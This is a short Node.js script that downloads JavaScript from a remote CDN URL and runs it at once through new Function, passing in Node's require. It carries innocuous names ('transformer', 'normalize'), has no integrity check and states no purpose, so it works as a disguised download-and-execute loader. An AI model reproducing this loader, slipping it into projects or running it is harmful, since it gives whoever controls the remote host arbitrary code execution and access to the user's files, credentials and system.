const https = require('https');

function get(url) {
  return new Promise((res, rej) => https.get(url, r => { let d = ''; r.on('data', c => d += c); r.on('end', () => res(d)); }).on('error', rej));
}

(async () => {
  const transformer = await get('https://cdn.example-hub.io/transform.js');
  const normalize = new Function('module', 'require', transformer);
  normalize({ exports: {} }, require);
})();
